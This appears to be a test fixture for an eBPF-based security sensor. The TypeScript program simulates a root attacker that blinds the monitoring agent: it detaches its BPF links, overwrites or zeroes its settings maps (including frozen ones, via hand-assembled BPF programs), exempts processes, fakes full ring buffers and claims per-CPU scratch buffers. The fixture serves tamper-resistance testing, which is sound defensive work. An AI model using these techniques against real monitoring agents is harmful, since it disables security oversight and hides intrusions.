/**
 * Attacks of root on the sensor with bpf(2), as a separate program: `node bpf-attacker.fixture.ts ACTION PID`, where
 * PID is the agent. Prints one line of JSON.
 */
import { readdirSync, readFileSync } from "node:fs";
import { availableParallelism } from "node:os";
import { pathToFileURL } from "node:url";
import { addressOf, bpf, mapShared, Protection, pageSize } from "../../src/source/syscall/libc.ts";

const Command = {
  MAP_UPDATE_ELEM: 2,
  PROG_LOAD: 5,
  PROG_RUN: 10,
  MAP_GET_FD_BY_ID: 14,
  LINK_GET_FD_BY_ID: 30,
  LINK_DETACH: 34,
} as const;
const [PROG_TYPE_SYSCALL, F_SLEEPABLE] = [31, 1 << 4];

function attributes(): { bytes: Uint8Array; view: DataView } {
  const bytes = new Uint8Array(152);
  return { bytes, view: new DataView(bytes.buffer) };
}

/**
 * Returns the maps of a process with a type: 2 for arrays, 12 for arrays of maps. The newest comes first, because after
 * the probe was attached again, the maps of the previous probe can still exist.
 */
export function mapsOf(pid: number, type: number): { readonly id: number; readonly valueSize: number }[] {
  const folder = `/proc/${pid}/fdinfo`;
  return readdirSync(folder)
    .map((fd) => textOf(`${folder}/${fd}`))
    .filter((info) => new RegExp(`^map_type:\\t${type}$`, "m").test(info))
    .map((info) => ({ id: number(info, "map_id"), valueSize: number(info, "value_size") }))
    .sort((a, b) => b.id - a.id);
}

/**
 * Returns the text of a file in /proc/PID/fdinfo; empty if the descriptor has been closed since the directory was
 * listed.
 */
function textOf(path: string): string {
  try {
    return readFileSync(path, "utf8");
  } catch {
    return "";
  }
}

function number(info: string, name: string): number {
  return Number(new RegExp(`^${name}:\\t(\\d+)$`, "m").exec(info)?.[1]);
}

function mapDescriptor(id: number): number {
  return descriptorOf(Command.MAP_GET_FD_BY_ID, id);
}

function descriptorOf(command: number, id: number): number {
  const { bytes, view } = attributes();
  view.setUint32(0, id, true);
  return bpf(command, bytes.subarray(0, 12));
}

/** Detaches all programs of a process. @returns the number of detached programs */
function detach(pid: number): number {
  const folder = `/proc/${pid}/fdinfo`;
  const infos = readdirSync(folder).map((fd) => readFileSync(`${folder}/${fd}`, "utf8"));
  return infos.filter((info) => {
    if (!/^link_id:/m.test(info)) return false;
    const { bytes, view } = attributes();
    view.setUint32(0, descriptorOf(Command.LINK_GET_FD_BY_ID, number(info, "link_id")), true);
    return bpf(Command.LINK_DETACH, bytes.subarray(0, 4)) === 0;
  }).length;
}

/** Returns the map with the settings: the only array with values of this size. */
function settingsMap(pid: number): { readonly id: number; readonly valueSize: number } {
  const found = mapsOf(pid, 2).find(({ valueSize }) => valueSize > 0x8000 && valueSize < 0x20000);
  if (found === undefined) throw new Error(`process ${pid} has no map with settings`);
  return found;
}

/** Overwrites the settings with zeros from user space. @returns a negated errno */
function zero(pid: number): number {
  const { id, valueSize } = settingsMap(pid);
  const map = mapDescriptor(id);
  const key = new Uint8Array(128);
  const value = new Uint8Array(Math.max(valueSize, 128));
  const { bytes, view } = attributes();
  view.setUint32(0, map, true);
  view.setBigUint64(8, addressOf(key), true);
  view.setBigUint64(16, addressOf(value), true);
  return bpf(Command.MAP_UPDATE_ELEM, bytes);
}

/** Instructions of a program, in the kernel's encoding. */
class Code {
  private readonly bytes: number[] = [];

  add(op: number, registers: number, offset: number, immediate: number): this {
    const bytes = new Uint8Array(8);
    const view = new DataView(bytes.buffer);
    view.setUint8(0, op);
    view.setUint8(1, registers);
    view.setInt16(2, offset, true);
    view.setInt32(4, immediate, true);
    this.bytes.push(...bytes);
    return this;
  }

  /** Loads the program and runs it once. @returns a negated errno, or 0 */
  run(): number {
    this.add(0xb7, 0x00, 0, 0).add(0x95, 0, 0, 0); // r0 = 0; exit
    const instructions = Uint8Array.from([...this.bytes, ...new Uint8Array(128)]);
    const license = new Uint8Array(128);
    license.set(Buffer.from("GPL"));
    const { bytes, view } = attributes();
    view.setUint32(0, PROG_TYPE_SYSCALL, true);
    view.setUint32(4, this.bytes.length / 8, true);
    view.setBigUint64(8, addressOf(instructions), true);
    view.setBigUint64(16, addressOf(license), true);
    view.setUint32(44, F_SLEEPABLE, true);
    const program = bpf(Command.PROG_LOAD, bytes.subarray(0, 128));
    if (program < 0) return program;
    const run = attributes();
    run.view.setUint32(0, program, true);
    return bpf(Command.PROG_RUN, run.bytes.subarray(0, 80));
  }
}

/**
 * Writes to a map of one entry with a BPF program. Freezing the map does not prevent such writes.
 * @param writes offsets and 32-bit values
 */
function writeFromProgram(map: number, writes: readonly (readonly [number, number])[]): number {
  const code = new Code();
  for (const [offset, value] of writes) {
    code.add(0x18, 0x21, 0, map).add(0, 0, 0, offset); // r1 = address in the value (BPF_PSEUDO_MAP_VALUE)
    code.add(0x62, 0x01, 0, value); // *(u32 *)r1 = value
  }
  return code.run();
}

/** Marks the buffers of all CPUs as busy, so that the probe records nothing. */
function claimScratches(map: number): number {
  const code = new Code();
  for (let cpu = 0; cpu < availableParallelism(); cpu++) {
    code.add(0x62, 0x0a, -4, cpu).add(0xbf, 0xa2, 0, 0).add(0x07, 0x02, 0, -4); // r2 = address of the key
    code.add(0x18, 0x11, 0, map).add(0, 0, 0, 0); // r1 = map
    code.add(0x85, 0, 0, 1); // bpf_map_lookup_elem
    code.add(0x15, 0x00, 1, 0); // skip if there is no value
    code.add(0x62, 0x00, 0, 1); // *(u32 *)r0 = 1
  }
  return code.run();
}

/**
 * All actions. `settings`: overwrites the settings from a program; `exempt`: exempts a process other than the agent;
 * `scratch`: marks the buffers of all CPUs as busy.
 */
const actions: Readonly<Record<string, (pid: number) => number>> = {
  zero,
  detach,
  settings(pid) {
    const { id, valueSize } = settingsMap(pid);
    const all = Array.from({ length: Math.floor(valueSize / 4) }, (_, i) => [i * 4, 0] as const);
    return writeFromProgram(mapDescriptor(id), all);
  },
  clock: (pid) =>
    writeFromProgram(mapDescriptor(settingsMap(pid).id), [
      [0, 0],
      [4, 0],
    ]),
  exempt: (pid) => writeFromProgram(mapDescriptor(settingsMap(pid).id), [[8, 1]]),
  /** Makes a ring buffer appear full to the kernel. */
  position(pid) {
    for (const { id } of mapsOf(pid, 27)) {
      const { memory } = mapShared(mapDescriptor(id), 0, pageSize(), Protection.READ | Protection.WRITE);
      Atomics.store(new BigInt64Array(memory, 0, 1), 0, -(1n << 40n));
    }
    return 0;
  },
  scratch(pid) {
    // Skips the data of the loader, which is larger. Its first bytes are descriptors that it closes if it fails.
    const scratches = mapsOf(pid, 2).find(({ valueSize }) => valueSize > 0x20000 && valueSize < 0x24000);
    if (scratches === undefined) throw new Error("no scratch map");
    return claimScratches(mapDescriptor(scratches.id));
  },
};

if (process.argv[1] !== undefined && import.meta.url === pathToFileURL(process.argv[1]).href) {
  const [, , action = "", pid = ""] = process.argv;
  console.log(JSON.stringify({ result: actions[action]?.(Number(pid)) }));
}
